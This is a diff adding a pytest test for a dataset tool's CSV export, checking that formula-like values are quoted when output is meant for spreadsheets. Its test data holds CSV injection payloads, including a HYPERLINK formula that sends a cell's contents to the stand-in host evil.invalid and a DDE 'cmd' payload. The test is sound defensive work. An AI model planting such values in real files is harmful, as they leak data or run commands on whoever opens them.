@@ -364,3 +364,36 @@ def test_an_export_skips_a_store_that_would_not_fit_in_memory(tmp_path: Path, sm
     case = ExportCase("A__1", "A", "CT", store, ["liver"], "train")
     assert write_case(case, ["liver"], False, tmp_path / "i.nii.gz", tmp_path / "l.nii.gz", report) is None
     assert "GiB in memory" in report.skipped["A__1"] and not (tmp_path / "i.nii.gz").exists()
+
+
+# -- CSV a spreadsheet opens --------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.invalid?"&B2,"open")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0",
+            "-2+3", "\t=1", "-x__s0000"]
+
+
+def test_query_csv_is_exact_data_unless_asked_for_a_spreadsheet(tmp_path: Path,
+                                                                capsys: pytest.CaptureFixture[str]) -> None:
+    """File names from a received dataset (`source_case`, `image_path`) reached `curator query`'s
+    CSV as formulas a spreadsheet runs. CSV stays exact data (it is read back by DuckDB and pandas);
+    `--spreadsheet` quotes text a spreadsheet would run, and numbers stay numbers."""
+    import csv
+    import io
+
+    import duckdb
+
+    from curator.cli.common import OutputFormat, csv_cell, emit, spreadsheet_cell
+    from curator.release.result_file import save_result
+
+    values = ", ".join("'" + v.replace("'", "''") + "'" for v in FORMULAS)
+    sql = f"select unnest([{values}]) as source_case, -3.5 as x, '-3.5' as t, 'liver' as term"
+    for cell, want in ((csv_cell, FORMULAS), (spreadsheet_cell, ["'" + v for v in FORMULAS])):
+        n = save_result(duckdb.sql(sql), tmp_path / "out.csv", tmp_path, cell)
+        with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
+            rows = list(csv.reader(f))
+        assert n == len(FORMULAS) and [r[0] for r in rows[1:]] == want
+        assert {tuple(r[1:]) for r in rows[1:]} == {("-3.5", "-3.5", "liver")}
+        emit(["source_case", "x"], [[v, -3.5] for v in FORMULAS], OutputFormat.csv,
+             spreadsheet=cell is spreadsheet_cell)
+        printed = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+        assert [r[0] for r in printed[1:]] == want and {r[1] for r in printed[1:]} == {"-3.5"}
